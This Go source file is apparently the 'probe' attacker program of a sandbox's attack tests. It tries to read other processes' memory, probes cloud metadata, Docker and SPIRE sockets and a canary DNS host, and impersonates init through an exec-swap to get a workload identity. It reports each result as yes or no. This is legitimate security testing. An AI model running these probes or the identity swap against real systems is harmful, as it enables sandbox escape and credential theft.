// Command probe is the attacker of the attack tests: a small static program
// that tries things and prints, one per line, what worked ("yes NAME") and
// what did not ("no NAME: why"). It runs inside sandboxes in place of the
// agent or of init, and outside of them as another process of the same user.
//
//	probe peek PID          every way to look into a process
//	probe reach [NET=ADDR]… every way out of the sandbox but the proxy
//	probe signal NUMBER     a signal to process 1, by every call
//	probe                   as process 1: take an identity by exec-swap (D02)
package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"github.com/spiffe/go-spiffe/v2/workloadapi"
	"golang.org/x/sys/unix"
	"google.golang.org/grpc"
)

func main() {
	switch {
	case len(os.Args) == 3 && os.Args[1] == "peek":
		pid, err := strconv.Atoi(os.Args[2])
		if err != nil {
			os.Exit(2)
		}
		peek(pid)
	case len(os.Args) == 2 && os.Args[1] == "wait":
		time.Sleep(time.Minute)
	case len(os.Args) == 3 && os.Args[1] == "signal":
		sig, err := strconv.Atoi(os.Args[2])
		if err != nil {
			os.Exit(2)
		}
		signalInit(sig)
	case len(os.Args) >= 2 && os.Args[1] == "reach":
		reach(os.Args[2:])
	case len(os.Args) == 1: // as process 1, which gets no arguments
		swap()
	case len(os.Args) == 2 && os.Args[1] == "relayed":
		relayed()
	default:
		os.Exit(2)
	}
}

func say(name string, err error) {
	if err == nil {
		fmt.Println("yes", name)
		return
	}
	fmt.Printf("no %s: %v\n", name, err)
}

// peek tries to read from a process, and touches nothing in it.
func peek(pid int) {
	dir := "/proc/" + strconv.Itoa(pid)
	for _, name := range []string{"environ", "maps", "auxv", "stack", "syscall", "io", "task/" + strconv.Itoa(pid) + "/environ"} {
		b, err := os.ReadFile(dir + "/" + name)
		if err == nil && len(b) == 0 && name == "maps" {
			err = fmt.Errorf("empty")
		}
		say(name, err)
	}
	for _, name := range []string{"fd", "map_files", "root/", "cwd/"} {
		_, err := os.ReadDir(dir + "/" + name)
		say(name, err)
	}
	for _, name := range []string{"exe", "fd/3", "ns/user"} {
		_, err := os.Readlink(dir + "/" + name)
		say("link "+name, err)
	}
	say("mem", readMem(pid))
	say("process_vm_readv", vmRead(pid))
	say("ptrace", ptrace(pid))
	say("pidfd_getfd", pidfdGetfd(pid))
	say("kcmp", kcmp(pid))
}

// address is somewhere in the process: the vDSO or stack of an unhardened one
// can be read at any address of maps; without maps a guess has to do.
func address(pid int) uintptr {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/maps")
	if err == nil && len(b) > 0 {
		lo, _, _ := strings.Cut(string(b), "-")
		if n, err := strconv.ParseUint(lo, 16, 64); err == nil {
			return uintptr(n)
		}
	}
	return 0x400000 // where a static Go program starts
}

func readMem(pid int) error {
	f, err := os.Open("/proc/" + strconv.Itoa(pid) + "/mem")
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.ReadAt(make([]byte, 16), int64(address(pid)))
	return err
}

func vmRead(pid int) error {
	buf := make([]byte, 16)
	local := []unix.Iovec{{Base: &buf[0], Len: 16}}
	remote := []unix.RemoteIovec{{Base: address(pid), Len: 16}}
	_, err := unix.ProcessVMReadv(pid, local, remote, 0)
	return err
}

func ptrace(pid int) error {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := unix.PtraceSeize(pid); err != nil {
		return err
	}
	return nil // it ends with this process, which lets go
}

func pidfdGetfd(pid int) error {
	fd, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	got, err := unix.PidfdGetfd(fd, 3, 0)
	if err == nil {
		_ = unix.Close(got)
	}
	return err
}

func kcmp(pid int) error {
	const kcmpVM = 1
	if _, _, e := syscall.Syscall6(unix.SYS_KCMP, uintptr(os.Getpid()), uintptr(pid), kcmpVM, 0, 0, 0); e != 0 {
		return e
	}
	return nil
}

// signalInit sends process 1 a signal. One that sigqueue(3) sends says of
// itself, by a code of the sender's choice, that it is not from kill(2).
func signalInit(sig int) {
	_ = syscall.Kill(1, syscall.Signal(sig))
	_ = unix.Tgkill(1, 1, syscall.Signal(sig))
	var info [128]byte // struct siginfo
	*(*int32)(unsafe.Pointer(&info[0])) = int32(sig)
	*(*int32)(unsafe.Pointer(&info[8])) = -1 // SI_QUEUE
	_, _, e := syscall.Syscall(unix.SYS_RT_SIGQUEUEINFO, 1, uintptr(sig), uintptr(unsafe.Pointer(&info[0])))
	_, _, e2 := syscall.Syscall6(unix.SYS_RT_TGSIGQUEUEINFO, 1, 1, uintptr(sig), uintptr(unsafe.Pointer(&info[0])), 0, 0)
	say("sigqueue", errors.Join(errOf(e), errOf(e2)))
}

// reach tries to leave the sandbox without the proxy. It changes nothing: the
// control runs it on the host.
func reach(more []string) {
	for _, m := range more {
		network, addr, _ := strings.Cut(m, "=")
		say(m, dial(network, addr))
	}
	for _, addr := range []string{
		"192.0.2.1:443", "10.0.0.1:443", "169.254.169.254:80", "169.254.170.2:80", "127.0.0.1:8200", "8.8.8.8:53",
		"[2606:4700:4700::1111]:443", "[fd00:ec2::254]:80",
	} {
		say("tcp "+addr, dial("tcp", addr))
	}
	say("udp 8.8.8.8:53", dial("udp", "8.8.8.8:53"))
	say("icmp", dial("ip4:icmp", "8.8.8.8"))
	_, err := (&net.Resolver{}).LookupHost(timeout(2*time.Second), "canary.evil.test")
	say("dns", err)
	for _, path := range []string{"/var/run/docker.sock", "/run/docker.sock", "/run/spire/sockets/agent.sock", "/tmp/spire-agent/public/api.sock"} {
		say("unix "+path, dial("unix", path))
	}
	for fd := 3; fd < 64; fd++ {
		if _, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err == nil {
			link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			if !strings.HasPrefix(link, "anon_inode:[event") {
				say("inherited "+strconv.Itoa(fd)+" "+link, nil)
			}
		}
	}
	// Netlink with protocol 0 lists the interfaces, of which there is one.
	for name, family := range map[string]int{"packet": unix.AF_PACKET, "vsock": unix.AF_VSOCK, "alg": unix.AF_ALG, "bluetooth": unix.AF_BLUETOOTH} {
		fd, err := unix.Socket(family, unix.SOCK_RAW, 0)
		if err == nil {
			_ = unix.Close(fd)
		}
		say("socket "+name, err)
	}
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_KOBJECT_UEVENT)
	if err == nil {
		_ = unix.Close(fd)
	}
	say("socket uevent", err)
	say("io_uring", ioUring())
	_, err = unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, true)
	say("keyctl", err)
	var attr [128]byte
	_, _, e := syscall.Syscall(unix.SYS_BPF, 0, uintptr(unsafe.Pointer(&attr[0])), uintptr(len(attr)))
	say("bpf", errOf(e))
	_, _, e = syscall.Syscall6(unix.SYS_PERF_EVENT_OPEN, uintptr(unsafe.Pointer(&attr[0])), 0, ^uintptr(0), ^uintptr(0), 0, 0)
	say("perf_event_open", errOf(e))
	_, _, e = syscall.Syscall(unix.SYS_USERFAULTFD, 0, 0, 0)
	say("userfaultfd", errOf(e))
}

func errOf(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

func ioUring() error {
	var params [120]byte
	fd, _, e := syscall.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params[0])), 0)
	if e == 0 {
		_ = unix.Close(int(fd))
	}
	return errOf(e)
}

func dial(network, addr string) error {
	c, err := net.DialTimeout(network, addr, time.Second)
	if err == nil {
		_ = c.Close()
	}
	return err
}

// timeout returns a context whose cancellation is its deadline; the program is
// short-lived.
func timeout(d time.Duration) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), d)
	time.AfterFunc(d, cancel)
	return ctx
}

// swap is the exec-swap of D02. As process 1 it connects to the Workload API,
// hands the connection to a child and becomes the genuine sealed-init, so that
// the attestor, which measures who connected, finds a genuine one. The variable
// part is a file: its presence leaves out the child (the control).
func swap() {
	const alone = "/workspace/alone"
	dirs, err := filepath.Glob("/opt/attack-*") // the one that this sandbox is shown
	if err != nil || len(dirs) != 1 {
		say("find", fmt.Errorf("%q: %w", dirs, errors.Join(err, os.ErrNotExist)))
		os.Exit(1)
	}
	init := dirs[0] + "/init"
	if _, err := os.Stat(alone); err != nil {
		conn, err := net.Dial("unix", "/proc/self/fd/6")
		if err != nil {
			say("connect", err)
			os.Exit(1)
		}
		file, err := conn.(*net.UnixConn).File()
		if err != nil {
			say("connect", err)
			os.Exit(1)
		}
		cmd := exec.Command(dirs[0]+"/probe", "relayed")
		cmd.ExtraFiles = []*os.File{file}
		cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
		if err := cmd.Start(); err != nil {
			say("child", err)
			os.Exit(1)
		}
	}
	for fd := 3; fd <= 6; fd++ {
		_, _ = unix.FcntlInt(uintptr(fd), unix.F_SETFD, 0)
	}
	say("exec", syscall.Exec(init, []string{init}, nil))
	os.Exit(1)
}

// relayed asks for an identity over a connection that somebody else made.
func relayed() {
	conn, err := net.FileConn(os.NewFile(3, "api"))
	if err != nil {
		say("svid", err)
		return
	}
	dialed := false
	c, err := workloadapi.New(timeout(5*time.Second), workloadapi.WithAddr("unix:///relayed"),
		workloadapi.WithDialOptions(grpc.WithContextDialer(func(context.Context, string) (net.Conn, error) {
			if dialed {
				return nil, fmt.Errorf("one connection only")
			}
			dialed = true
			return conn, nil
		})))
	// The launcher registers process 1 meanwhile.
	for end := time.Now().Add(3 * time.Second); err == nil && time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		if _, asked := c.FetchX509SVID(timeout(time.Second)); asked == nil {
			say("svid", nil)
			return
		} else if time.Until(end) < 200*time.Millisecond {
			err = asked
		}
	}
	say("svid", err)
}
